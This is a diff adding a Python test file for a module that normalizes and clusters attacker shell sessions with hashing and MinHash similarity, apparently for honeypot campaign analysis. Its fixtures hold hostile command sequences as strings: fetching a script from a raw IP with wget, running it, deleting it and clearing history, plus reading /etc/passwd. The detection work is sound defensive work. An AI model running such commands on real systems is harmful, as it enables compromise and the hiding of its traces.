@@ -0,0 +1,57 @@
+import sys
+
+from storage import campaigns
+
+BOT_A = [
+    "cd /tmp",
+    "wget http://45.12.8.3/x.sh",
+    "chmod +x x.sh",
+    "./x.sh 1715000000",
+    "rm -f x.sh",
+    "history -c",
+]
+
+
+def test_normalize_collapses_volatile_tokens() -> None:
+    other = [
+        "cd   /tmp",
+        "wget http://91.200.1.77/x.sh",
+        "chmod +x x.sh",
+        "./x.sh 1715999999",
+        "rm -f x.sh",
+        "history -c",
+    ]
+    a = [campaigns.normalize(line) for line in BOT_A]
+    b = [campaigns.normalize(line) for line in other]
+
+    assert a == b, f"{a} != {b}"
+    assert campaigns.command_hash(a) == campaigns.command_hash(b)
+
+    print(f"[+] PASS — normalized: {a}")
+
+
+def test_minhash_similarity() -> None:
+    base = [campaigns.normalize(line) for line in BOT_A]
+    variant = base[:-1] + ["cat /etc/passwd"]
+    unrelated = ["uname -a", "nproc", "free -m", "cat /proc/cpuinfo", "ls -la /root"]
+
+    sig = campaigns.minhash(base)
+    close = campaigns.similarity(sig, campaigns.minhash(variant))
+    far = campaigns.similarity(sig, campaigns.minhash(unrelated))
+
+    assert campaigns.minhash(base) == sig, "MinHash must be deterministic"
+    assert close > far, f"variant {close:.2f} <= unrelated {far:.2f}"
+    assert far < 0.2, f"Unrelated sessions too similar: {far:.2f}"
+    assert len(campaigns.lsh_bands(sig)) == 16
+
+    print(f"[+] PASS — similarity variant={close:.2f} unrelated={far:.2f}")
+
+
+if __name__ == "__main__":
+    try:
+        test_normalize_collapses_volatile_tokens()
+        test_minhash_similarity()
+        print("\n[+] All campaign tests passed.")
+    except AssertionError as exc:
+        print(f"\n[-] FAIL: {exc}", file=sys.stderr)
+        sys.exit(1)